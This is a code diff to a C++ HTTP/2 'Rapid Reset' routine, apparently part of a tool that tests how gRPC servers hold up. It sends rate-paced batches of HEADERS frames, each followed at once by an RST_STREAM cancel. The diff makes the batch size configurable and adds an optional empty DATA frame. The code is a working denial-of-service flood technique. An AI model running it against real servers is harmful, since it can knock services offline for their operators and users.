@@ -120,7 +120,8 @@ class Link {
 
 RapidResetResult RapidReset(const std::string& address, const std::string& from, bool tls,
                             absl::Duration duration, uint64_t max_streams_per_second,
-                            const std::string& path) {
+                            const RapidResetOptions& options) {
+  const std::string& path = options.path;
   RapidResetResult result;
   signal(SIGPIPE, SIG_IGN);  // a server closing the connection is an answer, not a crash
   SSL_CTX* ctx = nullptr;
@@ -136,7 +137,8 @@ RapidResetResult RapidReset(const std::string& address, const std::string& from,
   Literal(&block, ":authority", address);
   Literal(&block, "content-type", "application/grpc");
   Literal(&block, "te", "trailers");
-  const std::string cancel("\0\0\0\x08", 4);  // RST_STREAM error code CANCEL
+  const std::string cancel("\0\0\0\x08", 4);         // RST_STREAM error code CANCEL
+  const std::string empty_message("\0\0\0\0\0", 5);  // gRPC: not compressed, 0 bytes
   const absl::Time end = absl::Now() + duration;
   const absl::Time start = absl::Now();
   while (absl::Now() < end) {
@@ -158,14 +160,15 @@ RapidResetResult RapidReset(const std::string& address, const std::string& from,
     Frame(&hello, 4, 1, 0, "");  // ACK of the server's
     bool open = link.Write(hello);
     uint32_t stream = 1;
-    while (open && absl::Now() < end && stream < (1u << 31) - 200) {
+    while (open && absl::Now() < end && stream < (1u << 31) - 2 * options.per_write) {
       std::string batch;
-      for (int i = 0; i < 100; ++i, stream += 2) {
+      for (int i = 0; i < options.per_write; ++i, stream += 2) {
         Frame(&batch, 1, 0x4, stream, block);  // HEADERS, END_HEADERS
-        Frame(&batch, 3, 0, stream, cancel);   // RST_STREAM
+        if (options.with_body) Frame(&batch, 0, 0x1, stream, empty_message);  // DATA, END_STREAM
+        Frame(&batch, 3, 0, stream, cancel);                                  // RST_STREAM
       }
       open = link.Write(batch);
-      if (open) result.streams += 100;
+      if (open) result.streams += options.per_write;
       if (link.tls()) link.DrainTls();
       // Paced to the rate asked for.
       const absl::Time due =
